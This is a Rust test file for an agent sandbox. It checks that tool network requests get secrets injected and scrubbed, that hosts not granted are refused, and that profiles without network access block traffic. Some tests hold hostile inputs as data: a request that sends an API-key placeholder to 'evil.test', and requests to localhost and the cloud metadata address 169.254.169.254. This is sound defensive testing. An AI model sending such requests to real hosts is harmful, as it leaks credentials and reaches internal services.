//! Requests of tools: the same hosts, secrets, refusals and records as for commands, without a socket inside.
//! It never speaks TLS for a tool: that is what is tested.

use crate::world::{SECRET, World, holds, host, line};
use serde_json::{Value, json};
use stockade_tests::stage::Stage;
use stockade_tests::story::{Stop, Story, Told, must};

pub(crate) fn stories() -> Vec<Story> {
    vec![
        Story::new("tools::a_secret_goes_out_with_a_request_of_a_tool_and_does_not_come_back", secret),
        Story::new("tools::what_is_not_granted_is_told_to_a_tool_and_never_sent", refused),
        Story::new("tools::a_placeholder_that_a_tool_sends_elsewhere_is_refused", canary),
        Story::new("tools::a_profile_without_network_lets_no_tool_out", offline),
    ]
}

/// What came of a session.
pub(crate) struct Heard {
    pub(crate) answers: Vec<Value>,
    pub(crate) log: String,
    pub(crate) seen: String,
}

impl Heard {
    /// Has these arguments fetched in one session, and proves its log.
    fn of(stage: &Stage, profile: &str, calls: &[Value]) -> Result<Self, Stop> {
        Self::of_tool(stage, profile, "fetch", calls)
    }

    /// Calls a tool with these arguments in one session, and proves its log.
    pub(crate) fn of_tool(stage: &Stage, profile: &str, tool: &str, calls: &[Value]) -> Result<Self, Stop> {
        let mut program = stage.program(&["{bin}/stockade", "session", "--workspace", "{ws}", "--profile", profile]);
        for args in calls {
            let call = json!({ "call": { "tool": tool, "args": args } });
            program.input.extend(format!("{call}\n").into_bytes());
        }
        let ended = stage.go(&program)?;
        must(ended.code() == 0 && !holds(&ended.out) && !holds(&ended.err), || ended.told())?;
        let answers: Result<Vec<Value>, _> = ended.out().lines().map(serde_json::from_str).collect();
        let answers = answers.map_err(|error| format!("{error}: {}", ended.told()))?;
        let verified = stage.stockade(&["verify", "last"])?;
        let log: String = stage.answers(0, &["log", "show", "last", "--json"])?.out().lines().map(line).collect();
        let heard = Self { answers, log, seen: stage.text("{up}/requests.jsonl") };
        must(verified.code() == 0 && verified.out().starts_with("PASS"), || {
            format!("{}{}", verified.told(), heard.told())
        })?;
        Ok(heard)
    }

    pub(crate) fn told(&self) -> String {
        format!("{:#?}\n--- log\n{}\n--- upstream\n{}", self.answers, self.log, self.seen)
    }

    pub(crate) fn says(&self, n: usize, words: &[&str]) -> Told {
        let answer = self.answers.get(n).map(ToString::to_string).unwrap_or_default();
        words
            .iter()
            .try_for_each(|word| must(answer.contains(word), || format!("no {word:?} in answer {n}: {}", self.told())))
    }

    pub(crate) fn logged(&self, records: &[&[&str]]) -> Told {
        records.iter().try_for_each(|words| {
            let has = self.log.lines().any(|line| words.iter().all(|word| line.contains(word)));
            must(has, || format!("no record with {words:?} in {}", self.told()))
        })
    }
}

fn secret(stage: &mut Stage) -> Told {
    let world = World::new(stage)?;
    let heard = Heard::of(
        stage,
        world.profile(),
        &[json!({ "url": "https://attach.good.test/echo", "format": "raw" }), json!({ "url": "http://plain.test/" })],
    )?;
    // The upstream saw the secret, and said it back; nobody inside heard it.
    must(heard.seen.contains(SECRET), || heard.told())?;
    heard.says(0, &["reply", "***"])?;
    heard.logged(&[
        &["tool.start", "net=\"requests\""],
        &["tool.use", "op=\"request\"", "host=\"attach.good.test\"", "port=443"],
        &["net.open", "host=\"attach.good.test\"", "via=\"wasi\""],
        &["net.request", "method=\"GET\"", "path=\"/echo\""],
        &["secret.use", "name=\"key\"", "header authorization"],
        &["secret.scrub", "name=\"key\""],
        &["net.reply", "status=200"],
        &["tool.use", "op=\"request\"", "host=\"plain.test\"", "port=80"],
    ])
}

fn refused(stage: &mut Stage) -> Told {
    let world = World::new(stage)?;
    let fetch = |url: &str| json!({ "url": url });
    let heard = Heard::of(
        stage,
        world.profile(),
        &[
            fetch("https://stranger.test/"),
            fetch("https://narrow.good.test/v2/x"),
            fetch("https://127.0.0.1/"),
            fetch("http://169.254.169.254/latest/meta-data/"),
            fetch("https://narrow.good.test/v1/x"),
        ],
    )?;
    heard.says(0, &["refused", "stranger.test"])?;
    heard.says(1, &["refused", "narrow.good.test"])?;
    heard.says(2, &["refused"])?;
    heard.says(3, &["refused"])?;
    let arrived = heard.seen.lines().count();
    must(arrived == 1 && heard.seen.contains("/v1/x"), || heard.told())?;
    heard.logged(&[&["net.refuse", "host=\"stranger.test\""], &["net.refuse", "path=\"/v2/x\""]])
}

fn canary(stage: &mut Stage) -> Told {
    // The tool is told the placeholder by a header that it is asked to send; an agent would have it from its environment.
    let world = World::new(stage)?;
    let script = "printf %s \"$API_KEY\"";
    let shown = stage.run(&["-q", "--profile", world.profile()], &["/bin/sh", "-c", script])?;
    // Each session has a placeholder of its own: another session's is one all the same, and has no business anywhere.
    let header = json!({ "authorization": format!("Bearer {}", shown.out()) });
    let heard = Heard::of(stage, world.profile(), &[json!({ "url": "https://evil.test/", "headers": header })])?;
    must(heard.seen.is_empty(), || heard.told())?;
    heard.logged(&[&["secret.canary", "host=\"evil.test\""], &["net.refuse", "host=\"evil.test\""]])
}

fn offline(stage: &mut Stage) -> Told {
    let world = World::new(stage)?;
    let heard = Heard::of(stage, "shell", &[json!({ "url": "https://good.test/echo" })])?;
    heard.says(0, &["refused"])?;
    must(heard.seen.is_empty() && !heard.log.contains("net.open"), || heard.told())?;
    heard.logged(&[
        &["tool.start", "net=\"none\""],
        &["tool.use", "op=\"request\"", "host=\"good.test\"", "errno="],
        &["net.refuse", "host=\"good.test\"", "grants no network"],
    ])?;
    // The same host, in the same words, where it is granted.
    let granted = world.under(stage, &format!("extends = [\"shell\"]\n{}", host("good.test", "{tls}", "")))?;
    let heard = Heard::of(stage, granted.profile(), &[json!({ "url": "https://good.test/echo" })])?;
    heard.says(0, &["reply"])
}
